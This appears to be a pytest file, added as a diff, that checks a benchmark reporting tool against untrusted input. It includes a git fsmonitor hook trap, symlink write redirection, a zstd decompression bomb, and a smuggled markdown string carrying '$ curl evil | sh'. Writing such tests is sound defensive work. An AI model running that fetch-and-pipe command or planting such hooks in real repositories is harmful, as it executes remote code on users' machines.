@@ -1,0 +1,113 @@
+"""Plans and results of somebody else: they run no code, write through no link, and fill no memory."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from typing import TYPE_CHECKING
+
+import pytest
+import zstandard
+
+from bench.granularity.environment import commit_of
+from bench.granularity.folder import ResultsFolder
+from bench.granularity.record import ResultFile, read_results
+from bench.report_page import drawing, redraw
+from bench.report_page.facts import Facts
+from bench.report_page.figures.over_time import FIELDS, calls_of
+from bench.report_page.markdown import reproduce
+from segmented.errors import InvalidInput
+from tests.bench.records import end_line, run, session_line
+from tests.support.command_line import ran
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+GIT = ("git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "init.defaultBranch=main")
+SHELL = "x`\n```\n\n```console\n$ curl evil | sh\n```\n"
+
+
+def test_a_plan_of_a_foreign_repository_runs_none_of_its_programs(tmp_path: Path) -> None:
+    plan, trap, sprung = tmp_path / "plan.toml", tmp_path / "trap", tmp_path / "sprung"
+    plan.write_text("", encoding="utf-8")
+    trap.write_text(f"#!/bin/sh\ntouch {sprung}\n")
+    trap.chmod(0o755)
+    for words in (("init", "-q"), ("add", "plan.toml"), ("commit", "-qm", "a plan")):
+        subprocess.run([*GIT, *words], cwd=tmp_path, check=True)
+    subprocess.run([*GIT, "config", "core.fsmonitor", str(trap)], cwd=tmp_path, check=True)
+    assert commit_of(plan) is None
+    assert not sprung.exists()
+    subprocess.run([*GIT, "status"], cwd=tmp_path, check=True, stdout=subprocess.DEVNULL)
+    assert sprung.exists()  # the trap is one
+
+
+def test_no_text_of_a_results_file_becomes_a_line_to_run() -> None:
+    session = session_line()
+    environment = {**session.environment, "code": {"commit": SHELL, SHELL: SHELL}, SHELL: SHELL}
+    foreign = session.model_copy(update={"environment": environment, "plan_sha256": SHELL})
+    written = reproduce(Facts(ResultFile(session=foreign, runs=(run(),), end=end_line(1))))
+    assert written.count("```") == 4
+    assert [line for line in written.splitlines() if line.startswith("$ ")] == [
+        "$ segmented bench granularity --plan plan.toml --report again",
+        "$ segmented bench compare . again",
+        "$ segmented bench report .",
+    ]
+    assert "Code: commit `-`. Plan: SHA-256 `-`, beside this file." in written
+
+
+@pytest.mark.parametrize("name", ["report.html", "REPRODUCE.md", "SHA256SUMS", "figures"])
+def test_a_report_is_not_written_through_a_link(tmp_path: Path, name: str) -> None:
+    folder, victim = tmp_path / "session", tmp_path / "victim"
+    folder.mkdir()
+    victim.write_text("precious")
+    (folder / name).symlink_to(victim)
+    with pytest.raises(InvalidInput) as refused:
+        redraw(folder, lambda *_: None)
+    sentence = f"{folder} has a link, {folder / name}: remove it, since results are not written through links"
+    assert str(refused.value) == sentence
+    assert victim.read_text() == "precious"
+    with pytest.raises(InvalidInput) as refused, ResultsFolder(folder):
+        pass
+    assert str(refused.value) == f"--report {sentence}"
+
+
+def test_a_history_that_unpacks_to_more_than_allowed_is_refused_in_the_middle(tmp_path: Path) -> None:
+    line = json.dumps(dict.fromkeys(FIELDS, 0.5)).encode() + b"\n"
+    packed = zstandard.ZstdCompressor().compress(line * 60_000)
+    (tmp_path / "history.zst").write_bytes(packed)
+    assert len(packed) < 10_000
+    kept = run().model_copy(update={"history": "history.zst"})
+    with pytest.raises(
+        InvalidInput, match=r"history\.zst, line [0-9]+: the file is larger than 1 MiB: allow more with"
+    ):
+        calls_of(tmp_path, kept, 1)
+    calls = calls_of(tmp_path, kept, 8)
+    assert calls is not None
+    assert len(calls.asked) == 60_000
+
+
+def test_the_command_passes_its_size_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    passed: dict[str, int] = {}
+
+    def redrawn(*_: object, **limits: int) -> drawing.Report:
+        passed.update(limits)
+        return drawing.Report(tmp_path, (), (), None)
+
+    monkeypatch.setattr(drawing, "redraw", redrawn)
+    assert ran("bench", "report", str(tmp_path), "--size-max", "7", url=None).returncode == 0
+    assert passed == {"history_max": 7}
+
+
+def test_a_line_of_a_history_without_an_end_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "history.zst").write_bytes(zstandard.ZstdCompressor().compress(bytes(50_000_000)))
+    kept = run().model_copy(update={"history": "history.zst"})
+    with pytest.raises(InvalidInput, match=r"line 1: it is longer than 65,536 bytes: is this a file of calls\?$"):
+        calls_of(tmp_path, kept, 256)
+
+
+def test_a_device_is_not_read_without_end_as_results(tmp_path: Path) -> None:
+    (tmp_path / "results.jsonl").symlink_to("/dev/zero")
+    with pytest.raises(
+        InvalidInput, match=r"line 1: it is longer than 4,194,304 bytes: is this a file of segmented-bench"
+    ):
+        read_results(tmp_path / "results.jsonl")
